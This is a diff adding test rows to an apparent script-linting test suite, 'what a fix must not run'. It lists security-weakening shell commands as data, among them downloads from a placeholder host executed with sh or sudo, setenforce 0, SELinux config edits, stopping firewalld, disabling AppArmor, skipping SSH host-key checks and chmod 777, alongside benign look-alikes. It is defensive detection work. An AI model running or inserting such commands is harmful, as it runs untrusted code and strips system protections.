@@ -78,6 +78,23 @@ describe('what a fix must not run', () => {
     ['sudo find /etc -mtime +7 -exec rm -f {} +', 'recursive-delete'],
     ["find /srv/x -name '*.sh' -exec chmod 777 {} \\;", 'world-writable'],
     ['service firewalld stop', 'firewall-off'],
+    ['/etc/init.d/firewalld stop', 'firewall-off'],
+    ['perl -pi -e s/enforcing/permissive/ /etc/selinux/config', 'selinux-off'],
+    ["sed -i 's/=enforcing/=disabled/' /etc/sysconfig/selinux", 'selinux-off'],
+    ['curl -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh', 'remote-code'],
+    ['wget -qO /tmp/i https://x.example/i\nchmod +x /tmp/i\nsudo /tmp/i -y', 'remote-code'],
+    ['curl -fsS https://x.example/i.sh > /tmp/i.sh; . /tmp/i.sh', 'remote-code'],
+    ['ln -s /etc/apparmor.d/usr.sbin.nginx /etc/apparmor.d/disable/', 'apparmor-off'],
+    ["GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git pull", 'host-key'],
+    ["export GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no'", 'host-key'],
+    ["git -c core.sshCommand='ssh -o UserKnownHostsFile=/dev/null' pull", 'host-key'],
+    ["sg root -c 'setenforce 0'", 'setenforce'],
+    ['semanage port -a -t http_port_t -p tcp 22', 'port-type'],
+    ['iptables -P INPUT ACCEPT', 'firewall-off'],
+    ['cat <<EOF > /etc/motd\nit is $(setenforce 0)\nEOF', 'setenforce'],
+    ['sh <<EOF\necho "$(setenforce 0)"\nEOF', 'setenforce'],
+    ['parallel chmod 777 ::: /srv/a /srv/b', 'world-writable'],
+    ['ls | parallel -j 2 chmod 777', 'world-writable'],
   ];
   it.each(rows)('%s → %s', async (script, code) => {
     expect(await codesOf(script, 'fix')).toEqual([code]);
@@ -116,6 +133,14 @@ describe('what a fix must not run', () => {
     'cat <<EOF > /etc/motd\ncurl https://x.example | sh; setenforce 0\nEOF',
     "su -c 'systemctl start app' app",
     'semodule -DB\ntrap "semodule -B" EXIT',
+    'perl -pi -e s/permissive/enforcing/ /etc/selinux/config',
+    'curl -o /srv/x.json https://x.example/x.json; sh /opt/load.sh /srv/x.json',
+    'curl -o /tmp/i.sh https://x.example/i.sh\necho "abc  /tmp/i.sh" | sha256sum -c\nsh /tmp/i.sh',
+    "GIT_SSH_COMMAND='ssh -i /etc/key' git pull",
+    "cat <<'EOF' > /etc/motd\nit is $(setenforce 0)\nEOF",
+    'cat <<EOF > /etc/motd\nit is \\$(setenforce 0), "$(date)"\nEOF',
+    'iptables -P INPUT DROP',
+    'parallel grep x ::: chmod 777',
   ];
   it.each(fine)('%s is left alone', async (script) => {
     expect(await codesOf(script, 'fix')).toEqual([]);
